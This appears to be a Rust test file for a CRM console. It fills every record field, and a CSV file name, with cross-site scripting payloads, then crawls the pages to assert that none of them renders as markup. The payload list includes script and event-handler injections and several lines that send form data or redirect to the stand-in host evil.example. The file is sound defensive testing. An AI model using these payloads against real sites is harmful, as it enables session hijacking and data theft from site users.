//! Text from callers, files and emails that attacks whoever looks at it.

use reqwest::Method;
use reqwest::multipart::{Form, Part};
use serde_json::{Value, json};
use uuid::Uuid;

use super::crawl::{crawl, tags};
use super::support::Visitor;
use crate::support::{Api, json as answer};
use crate::workflows::worker;

/// What an attacker writes into every field, in many variants.
fn payloads() -> Vec<String> {
    let starts =
        ["", "\">", "'>", "</title>", "</textarea>", "</script>", "</option></select>", "</svg>", "]]>", "-->"];
    let attacks = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<form action=https://evil.example><input name=key>",
        "<style>@import 'https://evil.example'</style>",
        "<base href=https://evil.example>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<object data=\"data:text/html,<script>alert(1)</script>\">",
    ];
    starts.iter().flat_map(|start| attacks.iter().map(move |attack| format!("{start}{attack}"))).collect()
}

/// Fills a workspace with something of every kind, whose texts contain `text`; returns a job that asks for
/// feedback.
pub async fn fill(api: &Api, text: &str) -> Value {
    let post = async |path: &str, body: Value| -> Value {
        let given = api.post(&format!("/dev/crm{path}")).json(&body).send().await.unwrap();
        let status = given.status();
        let body: Value = given.json().await.unwrap();
        assert!(status.is_success(), "{path}: {body}");
        body
    };
    let id = |record: &Value| record["id"].as_str().unwrap().to_owned();
    let email = || format!("{}@example.com", Uuid::now_v7());
    let name = format!("Secret Lovelace {text}");
    let lead = json!({ "name": name, "email": email(), "company": text, "phone": "1", "notes": text,
        "external_id": text.to_owned() + &email(), "custom_fields": { "key": text, text: "value" } });
    let lead = post("/leads", lead).await;
    let customer = json!({ "name": name, "email": email(), "company": text, "notes": text, "billing_address": text,
        "payment_terms": text, "custom_fields": { "key": text } });
    let customer = post("/customers", customer).await;
    let note = json!({ "type": "note", "notes": text, "next_action": text, "next_action_date": "2026-01-01" });
    post(&format!("/leads/{}/interactions", id(&lead)), note).await;
    let call = json!({ "type": "call", "subject": text, "description": text, "date": "2026-01-01", "outcome": text,
        "next_action": text, "next_action_date": "2026-01-01" });
    post(&format!("/customers/{}/interactions", id(&customer)), call).await;
    let order = json!({ "customer_id": id(&customer), "product_id": Uuid::now_v7(), "quantity": 1, "notes": text,
        "shipping_address": text, "custom_fields": { "key": text } });
    post("/orders", order).await;
    post("/users", json!({ "name": text, "email": email() })).await;
    post("/keys", json!({ "name": text, "scopes": ["records:read"] })).await;
    post("/suppressions", json!({ "email": email() })).await;
    let endpoint = json!({ "url": "https://receiver.example/hook", "description": text, "events": ["*"] });
    let schedule = json!({ "kind": "process_followups", "every": "PT1H" });
    for (path, body) in [("webhooks", endpoint), ("schedules", schedule)] {
        // Their numbers are limited.
        let status = api.post(&format!("/dev/crm/{path}")).json(&body).send().await.unwrap().status().as_u16();
        assert!(matches!(status, 201 | 409), "{path}: {status}");
    }
    let settings = json!({ "sender_name": "Acme", "send_between": null });
    answer(api.request(Method::PATCH, "/dev/crm/settings").json(&settings), 200).await;
    let file = format!("Name,Email,\"{}\"\n\"{0}\",{},x\n\"{0}\",nobody,x\n", text.replace('"', "\"\""), email());
    let file = Part::bytes(file.into_bytes()).file_name(format!("{text}.csv"));
    let import = api.post("/dev/crm/leads/import").multipart(Form::new().part("file", file));
    answer(import, 202).await;
    post(&format!("/customers/{}/feedback/request", id(&customer)), json!({})).await
}

#[tokio::test]
async fn no_text_of_a_caller_becomes_markup() {
    let api = Api::start().await;
    leave_jobs(&api);
    let _worker = worker(&api);
    let mut asked = Vec::new();
    for payload in payloads() {
        asked.push((fill(&api, &payload).await, payload));
    }
    for (job, payload) in asked {
        api.ended(&job).await;
        let feedback = answer(api.get(&format!("/dev/crm/jobs/{}/records", job["id"].as_str().unwrap())), 200).await;
        let id = feedback[0]["id"].as_str().unwrap();
        let body = json!({ "rating": 1, "comment": payload, "category": payload });
        answer(api.post(&format!("/dev/crm/feedback/{id}")).json(&body), 200).await;
    }
    let visitor = Visitor::signed_in(&api, "*").await;
    for (path, shown) in crawl(&visitor).await {
        assert_eq!(shown.status, 200, "{path}: {}", shown.html);
        let is_html = shown.headers["content-type"].to_str().unwrap().starts_with("text/html");
        if is_html && !path.ends_with("/html") {
            assert_is_ours(&path, &shown.html);
        }
    }
}

/// The jobs that filling starts may be left when a test ends.
pub fn leave_jobs(api: &Api) {
    for kind in ["import_leads", "request_feedback", "find_themes", "score_customers"] {
        api.leaves_jobs(kind);
    }
}

/// Checks that a page has only tags and attributes of the console.
fn assert_is_ours(path: &str, html: &str) {
    for tag in tags(html) {
        assert!(
            !matches!(tag.name.as_str(), "base" | "object" | "embed" | "style" | "img"),
            "{path} has <{}>",
            tag.name
        );
        for (name, value) in &tag.attributes {
            assert!(!name.starts_with("on") && name != "style" && name != "srcdoc", "{path}: {name}={value}");
            if matches!(name.as_str(), "href" | "src" | "action" | "formaction" | "data-live") {
                assert!(value.starts_with("/console") || value.starts_with('#'), "{path}: {name}={value}");
            }
        }
        if tag.name == "script" {
            assert!(tag.attribute("src").is_some_and(|src| src.starts_with("/console/assets/")), "{path}");
        }
        assert!(tag.name != "meta" || tag.attribute("http-equiv").is_none(), "{path}");
    }
}
